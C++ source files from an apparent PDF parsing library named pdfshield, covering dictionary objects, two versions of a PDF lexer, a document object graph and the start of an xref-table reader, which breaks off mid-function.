      raw(support::name_table().intern(r)) {}

Name Name::stable(std::string_view v, std::string_view r) {
  Name n;
  n.value = support::name_table().intern_stable(v);
  n.raw = support::name_table().intern_stable(r);
  return n;
}

bool Dict::contains(std::string_view key) const {
  return find(key) != nullptr;
}

const Object* Dict::find(std::string_view key) const {
  for (const auto& e : entries_) {
    if (e.key == key) return &e.value;
  }
  return nullptr;
}

Object* Dict::find(std::string_view key) {
  for (auto& e : entries_) {
    if (e.key == key) return &e.value;
  }
  return nullptr;
}

const Object& Dict::at(std::string_view key) const {
  const Object* p = find(key);
  if (!p) throw support::LogicError("dict key not found: " + std::string(key));
  return *p;
}

void Dict::set(std::string_view key, Object value) {
  for (auto& e : entries_) {
    if (e.key == key) {
      e.value = std::move(value);
      return;
    }
  }
  entries_.push_back(
      {support::name_table().intern(key), std::move(value), {}});
}

void Dict::set_with_raw(std::string_view key, std::string_view raw_key,
                        Object value) {
  for (auto& e : entries_) {
    if (e.key == key) {
      e.value = std::move(value);
      e.raw_key = support::name_table().intern(raw_key);
      return;
    }
  }
  entries_.push_back({support::name_table().intern(key), std::move(value),
                      support::name_table().intern(raw_key)});
}

void Dict::set_stable(std::string_view key, std::string_view raw_key,
                      Object value) {
  for (auto& e : entries_) {
    if (e.key == key) {
      e.value = std::move(value);
      e.raw_key = support::name_table().intern_stable(raw_key);
      return;
    }
  }
  entries_.push_back({support::name_table().intern_stable(key),
                      std::move(value),
                      support::name_table().intern_stable(raw_key)});
}

bool Dict::has_hex_escaped_key() const {
  for (const auto& e : entries_) {
    if (!e.raw_key.empty()) return true;
  }
  return false;
}

bool Dict::erase(std::string_view key) {
  for (auto it = entries_.begin(); it != entries_.end(); ++it) {
    if (it->key == key) {
      entries_.erase(it);
      return true;
    }
  }
  return false;
}

bool operator==(const Dict& a, const Dict& b) {
  if (a.entries_.size() != b.entries_.size()) return false;
  // Key order and raw spelling are presentation, not identity.
  for (const auto& e : a.entries_) {
    const Object* other = b.find(e.key);
    if (!other || !(*other == e.value)) return false;
  }
  return true;
}

bool operator==(const Stream& a, const Stream& b) {
  return a.dict == b.dict && a.data == b.data;
}

bool operator==(const Object& a, const Object& b) {
  return a.v_ == b.v_;
}

double Object::as_number() const {
  if (const auto* i = std::get_if<std::int64_t>(&v_)) return static_cast<double>(*i);
  if (const auto* d = std::get_if<double>(&v_)) return *d;
  throw support::LogicError("object is not a number");
}

const Dict& Object::dict_or_stream_dict() const {
  if (const auto* d = std::get_if<Dict>(&v_)) return *d;
  if (const auto* s = std::get_if<Stream>(&v_)) return s->dict;
  throw support::LogicError("object has no dictionary");
}

Dict& Object::dict_or_stream_dict() {
  if (auto* d = std::get_if<Dict>(&v_)) return *d;
  if (auto* s = std::get_if<Stream>(&v_)) return s->dict;
  throw support::LogicError("object has no dictionary");
}

std::optional<std::string_view> Object::name_value() const {
  if (const auto* n = std::get_if<Name>(&v_)) return n->value;
  return std::nullopt;
}

std::string_view type_name(const Object& obj) {
  switch (obj.value().index()) {
    case 0: return "null";
    case 1: return "bool";
    case 2: return "int";
    case 3: return "real";
    case 4: return "string";
    case 5: return "name";
    case 6: return "array";
    case 7: return "dict";
    case 8: return "stream";
    case 9: return "ref";
    default: return "unknown";
  }
}

}  // namespace pdfshield::pdf
