#include "pdf/lexer.hpp"

#include <cstdlib>
#include <cstring>

#include "pdf/charclass.hpp"

namespace pdfshield::pdf {

using support::ParseError;

bool is_pdf_whitespace(std::uint8_t c) {
  return cc_has(c, kCcWhitespace);
}

bool is_pdf_delimiter(std::uint8_t c) {
  return cc_has(c, kCcDelimiter);
}

std::string encode_name(std::string_view value) {
  std::string out = "/";
  for (char ch : value) {
    const std::uint8_t c = static_cast<std::uint8_t>(ch);
    if (c == '#' || c < 0x21 || c > 0x7e || is_pdf_delimiter(c)) {
      static const char kHex[] = "0123456789ABCDEF";
      out.push_back('#');
      out.push_back(kHex[c >> 4]);
      out.push_back(kHex[c & 0xf]);
    } else {
      out.push_back(ch);
    }
  }
  return out;
}

void Lexer::skip_whitespace_and_comments() {
  const std::uint8_t* base = data_.data();
  const std::size_t size = data_.size();
  std::size_t i = pos_;
  while (i < size) {
    const std::uint8_t cls = char_class(base[i]);
    if (cls & kCcWhitespace) {
      ++i;
    } else if (base[i] == '%') {
      // Comment runs to end of line: block-scan for the first CR/LF.
      i += scan_to_eol(base + i, size - i);
    } else {
      break;
    }
  }
  pos_ = i;
}

const Token& Lexer::peek() {
  if (!peeked_) {
    peek_ = next();
    peeked_ = true;
  }
  return peek_;
}

void Lexer::seek(std::size_t pos) {
  pos_ = pos;
  peeked_ = false;
}

void Lexer::skip_eol() {
  if (peeked_) {
    // Lookahead has already consumed whitespace; nothing to do.
    return;
  }
  if (!eof() && at(pos_) == '\r') ++pos_;
  if (!eof() && at(pos_) == '\n') ++pos_;
}

support::BytesView Lexer::read_raw(std::size_t n) {
  if (peeked_) {
    pos_ = peek_.offset;
    peeked_ = false;
  }
  if (n > data_.size() - pos_) throw ParseError("raw read past end of data");
  const support::BytesView out = data_.subspan(pos_, n);
  pos_ += n;
  return out;
}

std::size_t Lexer::find_forward(std::string_view needle) const {
  const std::size_t start = peeked_ ? peek_.offset : pos_;
  if (needle.empty() || data_.size() < needle.size()) return std::string_view::npos;
  const std::string_view hay = support::as_view(data_);
  return hay.find(needle, start);
}

Token Lexer::next() {
  if (peeked_) {
    peeked_ = false;
    return peek_;
  }
  skip_whitespace_and_comments();
  Token t;
  t.offset = pos_;
  if (eof()) {
    t.kind = TokenKind::kEof;
    return t;
  }
  // Single-byte dispatch: the switch compiles to one jump table indexed by
  // the lead byte, replacing the old predicate-call chain.
  const std::uint8_t c = at(pos_);
  switch (c) {
    case '/':
      return lex_name();
    case '(':
      return lex_literal_string();
    case '<':
      return lex_hex_string_or_dict_open();
    case '>':
      if (pos_ + 1 < data_.size() && at(pos_ + 1) == '>') {
        pos_ += 2;
        t.kind = TokenKind::kDictClose;
        return t;
      }
      throw ParseError("stray '>' in input");
    case '[':
      ++pos_;
      t.kind = TokenKind::kArrayOpen;
      return t;
    case ']':
      ++pos_;
      t.kind = TokenKind::kArrayClose;
      return t;
    case '{':
    case '}':
      // Postscript-calculator braces only appear in function streams; treat
      // them as keywords so tolerant parsing can skip them.
      t.kind = TokenKind::kKeyword;
      t.text = support::as_view(data_).substr(pos_, 1);
      ++pos_;
      return t;
    case '+':
    case '-':
    case '.':
    case '0':
    case '1':
    case '2':
    case '3':
    case '4':
    case '5':
    case '6':
    case '7':
    case '8':
    case '9':
      return lex_number();
    default:
      if (cc_regular(c)) return lex_keyword();
      throw ParseError("unexpected byte 0x" + std::to_string(c));
  }
}

Token Lexer::lex_number() {
  Token t;
  t.offset = pos_;
  const std::size_t start = pos_;
  const std::uint8_t* base = data_.data();
  const std::size_t size = data_.size();
  std::size_t i = pos_;
  bool negative = false;
  if (base[i] == '+' || base[i] == '-') {
    negative = base[i] == '-';
    ++i;
  }
  // One pass accumulates the integer value while finding the extent; the
  // value is only trusted when the token turns out to be a plain integer
  // short enough (<= 18 digits) that the fold is exactly strtoll.
  std::uint64_t value = 0;
  std::size_t digits = 0;
  bool is_real = false;
  while (i < size) {
    const std::uint8_t c = base[i];
    if (cc_has(c, kCcDigit)) {
      value = value * 10 + (c - '0');
      ++digits;
    } else if (c == '.') {
      is_real = true;
    } else {
      break;
    }
    ++i;
  }
  pos_ = i;
  if (!is_real && digits > 0 && digits <= 18) {
    t.kind = TokenKind::kInteger;
    t.int_value = negative ? -static_cast<std::int64_t>(value)
                           : static_cast<std::int64_t>(value);
    return t;
  }
  const std::string_view text =
      support::as_view(data_).substr(start, pos_ - start);
  if (text.empty() || text == "+" || text == "-" || text == ".") {
    throw ParseError("malformed number at offset " + std::to_string(start));
  }
  // Slow path — reals and >18-digit integers. strtod/strtoll need NUL
  // termination and carry the exact conversion semantics (real rounding,
  // integer saturation); PDF numbers are short, so a stack buffer covers
  // every realistic token (longer ones still parse via a one-off copy).
  char buf[64];
  const char* cstr = buf;
  std::string long_text;
  if (text.size() < sizeof(buf)) {
    text.copy(buf, text.size());
    buf[text.size()] = '\0';
  } else {
    long_text.assign(text);
    cstr = long_text.c_str();
  }
  if (is_real) {
    t.kind = TokenKind::kReal;
    t.real_value = std::strtod(cstr, nullptr);
  } else {
    t.kind = TokenKind::kInteger;
    t.int_value = std::strtoll(cstr, nullptr, 10);
  }
  return t;
}

Token Lexer::lex_name() {
  Token t;
  t.offset = pos_;
  t.kind = TokenKind::kName;
  const std::size_t slash = pos_;
  ++pos_;  // skip '/'
  const std::size_t start = pos_;
  const std::uint8_t* base = data_.data();
  // Fast path: block-scan the regular-byte extent, then one memchr decides
  // whether any '#' needs the escape logic at all. Hex digits are regular,
  // so a valid #xx escape never extends the extent past what the plain
  // scan finds — the extents agree by construction.
  const std::size_t run =
      scan_regular_run(base + start, data_.size() - start);
  if (std::memchr(base + start, '#', run) == nullptr) {
    pos_ = start + run;
    t.text = support::as_view(data_).substr(start, run);
    return t;
  }
  // '#'-bearing name (rare): replay the original per-byte scan so the
  // `escaped` determination and decode match the reference exactly.
  bool escaped = false;
  while (!eof() && cc_regular(at(pos_))) {
    if (at(pos_) == '#' && pos_ + 2 < data_.size() &&
        kHexValue[at(pos_ + 1)] >= 0 && kHexValue[at(pos_ + 2)] >= 0) {
      escaped = true;
      pos_ += 3;
    } else {
      ++pos_;
    }
  }
  const std::string_view span =
      support::as_view(data_).substr(start, pos_ - start);
  if (!escaped) {
    t.text = span;
    return t;
  }
  // Decode #xx escapes into the arena; the raw spelling (with leading '/')
  // is the input bytes themselves.
  auto* buf = static_cast<char*>(arena().allocate(span.size(), 1));
  std::size_t n = 0;
  for (std::size_t i = 0; i < span.size();) {
    const auto c = static_cast<std::uint8_t>(span[i]);
    if (c == '#' && i + 2 < span.size()) {
      const int hi = kHexValue[static_cast<std::uint8_t>(span[i + 1])];
      const int lo = kHexValue[static_cast<std::uint8_t>(span[i + 2])];
      if (hi >= 0 && lo >= 0) {
        buf[n++] = static_cast<char>((hi << 4) | lo);
        i += 3;
        continue;
      }
    }
    buf[n++] = static_cast<char>(c);
    ++i;
  }
  t.text = {buf, n};
  t.raw = support::as_view(data_).substr(slash, pos_ - slash);
  return t;
}

Token Lexer::lex_literal_string() {
  Token t;
  t.offset = pos_;
  t.kind = TokenKind::kString;
  ++pos_;  // skip '('
  const std::size_t content = pos_;
  // First pass: find the matching ')' and whether any escape occurs; an
  // escape-free string (the overwhelmingly common case) is borrowed
  // verbatim, nested parens included. Only backslashes and parens matter
  // to the structure, so the scan jumps special-to-special in blocks
  // instead of visiting every byte. The close index also bounds the
  // escaped path's arena buffer: sizing it by the remaining document
  // instead would let k crafted strings cost O(k·filesize) arena memory.
  std::size_t close = std::string_view::npos;  // index one past the ')'
  {
    const std::uint8_t* base = data_.data();
    const std::size_t size = data_.size();
    int depth = 1;
    bool has_escape = false;
    bool ends_in_backslash = false;
    std::size_t i = content;
    while (i < size) {
      const std::size_t j = i + scan_string_special(base + i, size - i);
      if (j >= size) break;  // no structural byte left: unterminated
      const std::uint8_t c = base[j];
      if (c == '\\') {
        has_escape = true;
        if (j + 1 < size) {
          i = j + 2;  // skip the escaped byte, special or not
        } else {
          ends_in_backslash = true;
          i = size;
        }
        continue;
      }
      if (c == '(') {
        ++depth;
        i = j + 1;
        continue;
      }
      if (--depth == 0) {  // c == ')'
        close = j + 1;
        break;
      }
      i = j + 1;
    }
    if (close == std::string_view::npos) {
      if (!has_escape) throw ParseError("unterminated literal string");
      // The decode pass would consume to end-of-data and then report one
      // of these; diagnose here instead so no arena buffer is allocated.
      pos_ = data_.size();
      throw ParseError(ends_in_backslash ? "string ends in backslash"
                                         : "unterminated literal string");
    }
    if (!has_escape) {
      t.bytes = data_.subspan(content, close - 1 - content);
      pos_ = close;
      return t;
    }
  }
  // Escaped path: decode into the arena. Escapes only shrink, so the
  // encoded extent bounds the decoded length. The loop below is the
  // error-reporting authority for malformed escapes, matching the
  // pre-refactor diagnostics exactly.
  auto* out =
      static_cast<std::uint8_t*>(arena().allocate(close - 1 - content, 1));
  std::size_t n = 0;
  int depth = 1;
  while (!eof()) {
    std::uint8_t c = at(pos_++);
    if (c == '\\') {
      if (eof()) throw ParseError("string ends in backslash");
      const std::uint8_t e = at(pos_++);
      switch (e) {
        case 'n': out[n++] = '\n'; break;
        case 'r': out[n++] = '\r'; break;
        case 't': out[n++] = '\t'; break;
        case 'b': out[n++] = '\b'; break;
        case 'f': out[n++] = '\f'; break;
        case '(': out[n++] = '('; break;
        case ')': out[n++] = ')'; break;
        case '\\': out[n++] = '\\'; break;
        case '\r':
          // Line continuation; swallow optional LF.
          if (!eof() && at(pos_) == '\n') ++pos_;
          break;
        case '\n':
          break;  // line continuation
        default:
          if (e >= '0' && e <= '7') {
            // Up to three octal digits.
            int v = e - '0';
            for (int k = 0; k < 2 && !eof() && at(pos_) >= '0' && at(pos_) <= '7'; ++k) {
              v = v * 8 + (at(pos_++) - '0');
            }
            out[n++] = static_cast<std::uint8_t>(v & 0xff);
          } else {
            // Unknown escape: PDF says drop the backslash.
            out[n++] = e;
          }
      }
      continue;
    }
    if (c == '(') {
      ++depth;
      out[n++] = c;
    } else if (c == ')') {
      if (--depth == 0) {
        t.bytes = {out, n};
        return t;
      }
      out[n++] = c;
    } else {
      out[n++] = c;
    }
  }
  throw ParseError("unterminated literal string");
}

Token Lexer::lex_hex_string_or_dict_open() {
  Token t;
  t.offset = pos_;
  if (pos_ + 1 < data_.size() && at(pos_ + 1) == '<') {
    pos_ += 2;
    t.kind = TokenKind::kDictOpen;
    return t;
  }
  ++pos_;  // skip '<'
  t.kind = TokenKind::kString;
  t.hex_string = true;
  // Hex strings always transform, so they always decode into the arena.
  // Pre-scan to the closing '>' first: the buffer must be sized by the
  // string's own digit count, never by the remaining document, or k
  // crafted strings would cost O(k·filesize) arena memory. The pre-scan
  // also fronts the decode loop's diagnostics (same errors, same order,
  // same final position) so a malformed string allocates nothing.
  std::size_t digits = 0;
  for (std::size_t i = pos_;; ++i) {
    if (i >= data_.size()) {
      pos_ = i;
      throw ParseError("unterminated hex string");
    }
    const std::uint8_t c = at(i);
    if (c == '>') break;
    const std::uint8_t cls = char_class(c);
    if (cls & kCcWhitespace) continue;
    if (!(cls & kCcHexDigit)) {
      pos_ = i + 1;
      throw ParseError("invalid character in hex string");
    }
    ++digits;
  }
  auto* out = static_cast<std::uint8_t*>(arena().allocate(digits / 2 + 1, 1));
  std::size_t n = 0;
  int hi = -1;
  while (!eof()) {
    const std::uint8_t c = at(pos_++);
    if (c == '>') {
      if (hi >= 0) out[n++] = static_cast<std::uint8_t>(hi << 4);  // odd digit: pad 0
      t.bytes = {out, n};
      return t;
    }
    if (cc_has(c, kCcWhitespace)) continue;
    const int v = kHexValue[c];
    if (v < 0) throw ParseError("invalid character in hex string");
    if (hi < 0) {
      hi = v;
    } else {
      out[n++] = static_cast<std::uint8_t>((hi << 4) | v);
      hi = -1;
    }
  }
  throw ParseError("unterminated hex string");
}

Token Lexer::lex_keyword() {
  Token t;
  t.offset = pos_;
  t.kind = TokenKind::kKeyword;
  const std::size_t start = pos_;
  pos_ = start + scan_regular_run(data_.data() + start, data_.size() - start);
  t.text = support::as_view(data_).substr(start, pos_ - start);
  return t;
}

}  // namespace pdfshield::pdf
