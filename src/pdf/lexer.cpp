#include "pdf/lexer.hpp"

#include <cctype>
#include <cstdlib>

namespace pdfshield::pdf {

using support::ParseError;

bool is_pdf_whitespace(std::uint8_t c) {
  return c == 0x00 || c == 0x09 || c == 0x0a || c == 0x0c || c == 0x0d ||
         c == 0x20;
}

bool is_pdf_delimiter(std::uint8_t c) {
  return c == '(' || c == ')' || c == '<' || c == '>' || c == '[' ||
         c == ']' || c == '{' || c == '}' || c == '/' || c == '%';
}

namespace {

bool is_regular(std::uint8_t c) {
  return !is_pdf_whitespace(c) && !is_pdf_delimiter(c);
}

int hex_value(std::uint8_t c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

}  // namespace

std::string encode_name(std::string_view value) {
  std::string out = "/";
  for (char ch : value) {
    const std::uint8_t c = static_cast<std::uint8_t>(ch);
    if (c == '#' || c < 0x21 || c > 0x7e || is_pdf_delimiter(c)) {
      static const char kHex[] = "0123456789ABCDEF";
      out.push_back('#');
      out.push_back(kHex[c >> 4]);
      out.push_back(kHex[c & 0xf]);
    } else {
      out.push_back(ch);
    }
  }
  return out;
}

void Lexer::skip_whitespace_and_comments() {
  while (!eof()) {
    const std::uint8_t c = at(pos_);
    if (is_pdf_whitespace(c)) {
      ++pos_;
    } else if (c == '%') {
      // Comment runs to end of line.
      while (!eof() && at(pos_) != '\n' && at(pos_) != '\r') ++pos_;
    } else {
      return;
    }
  }
}

const Token& Lexer::peek() {
  if (!peeked_) {
    peek_ = next();
    peeked_ = true;
  }
  return peek_;
}

void Lexer::seek(std::size_t pos) {
  pos_ = pos;
  peeked_ = false;
}

void Lexer::skip_eol() {
  if (peeked_) {
    // Lookahead has already consumed whitespace; nothing to do.
    return;
  }
  if (!eof() && at(pos_) == '\r') ++pos_;
  if (!eof() && at(pos_) == '\n') ++pos_;
}

support::Bytes Lexer::read_raw(std::size_t n) {
  if (peeked_) {
    pos_ = peek_.offset;
    peeked_ = false;
  }
  if (n > data_.size() - pos_) throw ParseError("raw read past end of data");
  support::Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_),
                     data_.begin() + static_cast<std::ptrdiff_t>(pos_ + n));
  pos_ += n;
  return out;
}

std::size_t Lexer::find_forward(std::string_view needle) const {
  const std::size_t start = peeked_ ? peek_.offset : pos_;
  if (needle.empty() || data_.size() < needle.size()) return std::string_view::npos;
  const std::string_view hay = support::as_view(data_);
  return hay.find(needle, start);
}

Token Lexer::next() {
  if (peeked_) {
    peeked_ = false;
    return std::move(peek_);
  }
  skip_whitespace_and_comments();
  Token t;
  t.offset = pos_;
  if (eof()) {
    t.kind = TokenKind::kEof;
    return t;
  }
  const std::uint8_t c = at(pos_);
  if (c == '/') return lex_name();
  if (c == '(') return lex_literal_string();
  if (c == '<') return lex_hex_string_or_dict_open();
  if (c == '>') {
    if (pos_ + 1 < data_.size() && at(pos_ + 1) == '>') {
      pos_ += 2;
      t.kind = TokenKind::kDictClose;
      return t;
    }
    throw ParseError("stray '>' in input");
  }
  if (c == '[') {
    ++pos_;
    t.kind = TokenKind::kArrayOpen;
    return t;
  }
  if (c == ']') {
    ++pos_;
    t.kind = TokenKind::kArrayClose;
    return t;
  }
  if (c == '{' || c == '}') {
    // Postscript-calculator braces only appear in function streams; treat
    // them as keywords so tolerant parsing can skip them.
    ++pos_;
    t.kind = TokenKind::kKeyword;
    t.text = static_cast<char>(c);
    return t;
  }
  if (c == '+' || c == '-' || c == '.' || std::isdigit(c)) return lex_number();
  if (is_regular(c)) return lex_keyword();
  throw ParseError("unexpected byte 0x" + std::to_string(c));
}

Token Lexer::lex_number() {
  Token t;
  t.offset = pos_;
  const std::size_t start = pos_;
  bool is_real = false;
  if (at(pos_) == '+' || at(pos_) == '-') ++pos_;
  while (!eof() && (std::isdigit(at(pos_)) || at(pos_) == '.')) {
    if (at(pos_) == '.') is_real = true;
    ++pos_;
  }
  const std::string text(
      support::as_view(data_).substr(start, pos_ - start));
  if (text.empty() || text == "+" || text == "-" || text == ".") {
    throw ParseError("malformed number at offset " + std::to_string(start));
  }
  if (is_real) {
    t.kind = TokenKind::kReal;
    t.real_value = std::strtod(text.c_str(), nullptr);
  } else {
    t.kind = TokenKind::kInteger;
    t.int_value = std::strtoll(text.c_str(), nullptr, 10);
  }
  return t;
}

Token Lexer::lex_name() {
  Token t;
  t.offset = pos_;
  t.kind = TokenKind::kName;
  ++pos_;  // skip '/'
  std::string decoded;
  std::string raw;
  bool escaped = false;
  while (!eof() && is_regular(at(pos_))) {
    const std::uint8_t c = at(pos_);
    if (c == '#' && pos_ + 2 < data_.size()) {
      const int hi = hex_value(at(pos_ + 1));
      const int lo = hex_value(at(pos_ + 2));
      if (hi >= 0 && lo >= 0) {
        decoded.push_back(static_cast<char>((hi << 4) | lo));
        raw.append({static_cast<char>(c), static_cast<char>(at(pos_ + 1)),
                    static_cast<char>(at(pos_ + 2))});
        pos_ += 3;
        escaped = true;
        continue;
      }
    }
    decoded.push_back(static_cast<char>(c));
    raw.push_back(static_cast<char>(c));
    ++pos_;
  }
  t.text = std::move(decoded);
  if (escaped) t.raw = "/" + raw;
  return t;
}

Token Lexer::lex_literal_string() {
  Token t;
  t.offset = pos_;
  t.kind = TokenKind::kString;
  ++pos_;  // skip '('
  int depth = 1;
  support::Bytes out;
  while (!eof()) {
    std::uint8_t c = at(pos_++);
    if (c == '\\') {
      if (eof()) throw ParseError("string ends in backslash");
      const std::uint8_t e = at(pos_++);
      switch (e) {
        case 'n': out.push_back('\n'); break;
        case 'r': out.push_back('\r'); break;
        case 't': out.push_back('\t'); break;
        case 'b': out.push_back('\b'); break;
        case 'f': out.push_back('\f'); break;
        case '(': out.push_back('('); break;
        case ')': out.push_back(')'); break;
        case '\\': out.push_back('\\'); break;
        case '\r':
          // Line continuation; swallow optional LF.
          if (!eof() && at(pos_) == '\n') ++pos_;
          break;
        case '\n':
          break;  // line continuation
        default:
          if (e >= '0' && e <= '7') {
            // Up to three octal digits.
            int v = e - '0';
            for (int k = 0; k < 2 && !eof() && at(pos_) >= '0' && at(pos_) <= '7'; ++k) {
              v = v * 8 + (at(pos_++) - '0');
            }
            out.push_back(static_cast<std::uint8_t>(v & 0xff));
          } else {
            // Unknown escape: PDF says drop the backslash.
            out.push_back(e);
          }
      }
      continue;
    }
    if (c == '(') {
      ++depth;
      out.push_back(c);
    } else if (c == ')') {
      if (--depth == 0) {
        t.bytes = std::move(out);
        return t;
      }
      out.push_back(c);
    } else {
      out.push_back(c);
    }
  }
  throw ParseError("unterminated literal string");
}

Token Lexer::lex_hex_string_or_dict_open() {
  Token t;
  t.offset = pos_;
  if (pos_ + 1 < data_.size() && at(pos_ + 1) == '<') {
    pos_ += 2;
    t.kind = TokenKind::kDictOpen;
    return t;
  }
  ++pos_;  // skip '<'
  t.kind = TokenKind::kString;
  t.hex_string = true;
  support::Bytes out;
  int hi = -1;
  while (!eof()) {
    const std::uint8_t c = at(pos_++);
    if (c == '>') {
      if (hi >= 0) out.push_back(static_cast<std::uint8_t>(hi << 4));  // odd digit: pad 0
      t.bytes = std::move(out);
      return t;
    }
    if (is_pdf_whitespace(c)) continue;
    const int v = hex_value(c);
    if (v < 0) throw ParseError("invalid character in hex string");
    if (hi < 0) {
      hi = v;
    } else {
      out.push_back(static_cast<std::uint8_t>((hi << 4) | v));
      hi = -1;
    }
  }
  throw ParseError("unterminated hex string");
}

Token Lexer::lex_keyword() {
  Token t;
  t.offset = pos_;
  t.kind = TokenKind::kKeyword;
  const std::size_t start = pos_;
  while (!eof() && is_regular(at(pos_))) ++pos_;
  t.text = std::string(support::as_view(data_).substr(start, pos_ - start));
  return t;
}

}  // namespace pdfshield::pdf
