#include "pdf/document.hpp"

#include <array>
#include <set>

#include "pdf/filters.hpp"

namespace pdfshield::pdf {

namespace {
const Object kNull{};
}

bool is_known_pdf_version(std::string_view version) {
  static const std::array<std::string_view, 9> kKnown = {
      "1.0", "1.1", "1.2", "1.3", "1.4", "1.5", "1.6", "1.7", "2.0"};
  for (auto v : kKnown) {
    if (v == version) return true;
  }
  return false;
}

void Document::MapDeleter::operator()(ObjectMap* m) const {
  if (m == nullptr) return;
  if (arena_backed) {
    m->~ObjectMap();  // node storage is reclaimed wholesale by the arena
  } else {
    delete m;
  }
}

Document::MapPtr Document::make_map(const support::ArenaHandle& arena) {
  if (!arena) return MapPtr(new ObjectMap(), MapDeleter{false});
  void* mem = arena->allocate(sizeof(ObjectMap), alignof(ObjectMap));
  return MapPtr(new (mem) ObjectMap(arena.get()), MapDeleter{true});
}

Document::Document() : objects_(make_map(nullptr)) {}

Document::Document(support::ArenaHandle arena)
    : arena_(std::move(arena)),
      objects_(make_map(arena_)),
      trailer_(arena_ ? Dict(arena_.get()) : Dict()) {}

Document::Document(const Document& other)
    : objects_(MapPtr(new ObjectMap(*other.objects_), MapDeleter{false})),
      trailer_(other.trailer_),
      header_(other.header_) {}

Document& Document::operator=(Document&& other) noexcept {
  if (this != &other) {
    // Destroy graph-before-arena (the destructor's member order already
    // guarantees that), then move-construct in place. Plain member-wise
    // assignment would replace arena_ first and leave the old map and
    // trailer deallocating into a possibly-dead resource.
    this->~Document();
    new (this) Document(std::move(other));
  }
  return *this;
}

Document& Document::operator=(const Document& other) {
  if (this != &other) *this = Document(other);  // copy, then move-assign
  return *this;
}

const support::ArenaHandle& Document::ensure_arena() {
  if (!arena_) arena_ = std::make_shared<support::Arena>();
  return arena_;
}

Ref Document::add_object(Object obj) {
  const int num = max_object_number() + 1;
  objects_->emplace(num, std::move(obj));
  return Ref{num, 0};
}

void Document::set_object(Ref ref, Object obj) {
  (*objects_)[ref.num] = std::move(obj);
}

const Object* Document::object(Ref ref) const {
  auto it = objects_->find(ref.num);
  return it == objects_->end() ? nullptr : &it->second;
}

Object* Document::object(Ref ref) {
  auto it = objects_->find(ref.num);
  return it == objects_->end() ? nullptr : &it->second;
}

const Object& Document::resolve(const Object& obj) const {
  const Object* cur = &obj;
  std::set<int> seen;
  while (cur->is_ref()) {
    const Ref r = cur->as_ref();
    if (!seen.insert(r.num).second) return kNull;  // reference cycle
    const Object* next = object(r);
    if (!next) return kNull;
    cur = next;
  }
  return *cur;
}

const Object* Document::resolved_find(const Dict& dict,
                                      std::string_view key) const {
  const Object* v = dict.find(key);
  if (!v) return nullptr;
  return &resolve(*v);
}

int Document::max_object_number() const {
  return objects_->empty() ? 0 : objects_->rbegin()->first;
}

const Object* Document::catalog() const {
  const Object* root = trailer_.find("Root");
  if (!root) return nullptr;
  const Object& resolved = resolve(*root);
  return resolved.is_null() ? nullptr : &resolved;
}

std::size_t Document::decompress_all() {
  std::size_t decoded = 0;
  for (auto& [num, obj] : *objects_) {
    if (!obj.is_stream()) continue;
    Stream& s = obj.as_stream();
    if (filter_chain(s.dict).empty()) continue;
    try {
      support::Bytes plain = decode_stream(s);
      s.data = std::move(plain);
      s.dict.erase("Filter");
      s.dict.erase("DecodeParms");
      s.dict.erase("DP");
      s.dict.set("Length", Object(static_cast<std::int64_t>(s.data.size())));
      ++decoded;
    } catch (const support::Error&) {
      // Undecodable stream (unsupported filter or corrupt data): keep raw.
    }
  }
  return decoded;
}

}  // namespace pdfshield::pdf
