#include "pdf/xref.hpp"

#include <algorithm>
#include <set>
#include <unordered_map>

#include "pdf/charclass.hpp"
#include "pdf/lexer.hpp"
#include "pdf/parser.hpp"
#include "support/error.hpp"

namespace pdfshield::pdf {

using support::BytesView;
using support::ParseError;

namespace {

/// SP, CR or LF — the record terminators §7.5.4 allows.
bool is_entry_eol_byte(std::uint8_t c) {
  return c == ' ' || c == '\r' || c == '\n';
}

/// Commits `count` already-validated strict records starting at `pos` into
/// `section.entries`. The digit folds are exact: 10- and 5-digit fields
/// never overflow, and leading zeros fold to the same value the token
/// lexer produces.
void commit_xref_records(BytesView file, std::size_t pos, std::int64_t first,
                         std::int64_t count, XrefSection& section) {
  const std::uint8_t* rec = file.data() + pos;
  for (std::int64_t i = 0; i < count; ++i, rec += 20) {
    std::uint64_t off = 0;
    for (int j = 0; j < 10; ++j) off = off * 10 + (rec[j] - '0');
    std::uint32_t gen = 0;
    for (int j = 11; j < 16; ++j) gen = gen * 10 + (rec[j] - '0');
    XrefEntry entry;
    entry.offset = static_cast<std::size_t>(off);
    entry.generation = static_cast<int>(gen);
    entry.in_use = rec[17] == 'n';
    section.entries[static_cast<int>(first + i)] = entry;
  }
}

}  // namespace

std::optional<std::size_t> match_xref_records(BytesView file, std::size_t pos,
                                              std::int64_t count) {
  while (pos < file.size() && cc_has(file[pos], kCcWhitespace)) ++pos;
  if (count < 0) return std::nullopt;
  const std::size_t n = static_cast<std::size_t>(count);
  if (n > (file.size() - pos) / 20) return std::nullopt;
  const std::uint8_t* rec = file.data() + pos;
  for (std::size_t i = 0; i < n; ++i, rec += 20) {
    std::uint32_t digit_flags = kCcDigit;
    for (int j = 0; j < 10; ++j) digit_flags &= char_class(rec[j]);
    for (int j = 11; j < 16; ++j) digit_flags &= char_class(rec[j]);
    const std::uint8_t type = rec[17];
    if (digit_flags == 0 || rec[10] != ' ' || rec[16] != ' ' ||
        (type != 'n' && type != 'f') || !is_entry_eol_byte(rec[18]) ||
        !is_entry_eol_byte(rec[19])) {
      return std::nullopt;
    }
  }
  return pos + n * 20;
}

std::optional<std::size_t> read_startxref(BytesView file) {
  const std::string_view text = support::as_view(file);
  const std::size_t pos = text.rfind("startxref");
  if (pos == std::string_view::npos) return std::nullopt;
  Lexer lex(file, pos);
  Token kw = lex.next();
  if (kw.kind != TokenKind::kKeyword || kw.text != "startxref") return std::nullopt;
  Token value = lex.next();
  if (value.kind != TokenKind::kInteger || value.int_value < 0) return std::nullopt;
  return static_cast<std::size_t>(value.int_value);
}

XrefSection read_xref_section(BytesView file, std::size_t offset) {
  XrefSection section;
  section.position = offset;
  Lexer lex(file, offset);

  Token kw = lex.next();
  if (kw.kind != TokenKind::kKeyword || kw.text != "xref") {
    throw ParseError("xref keyword not found at offset " + std::to_string(offset));
  }

  // Subsections: "<first> <count>" followed by count 20-byte entries.
  while (true) {
    const Token first = lex.peek();
    if (first.kind != TokenKind::kInteger) break;
    lex.next();
    const Token count = lex.next();
    if (count.kind != TokenKind::kInteger) {
      throw ParseError("xref subsection count missing");
    }
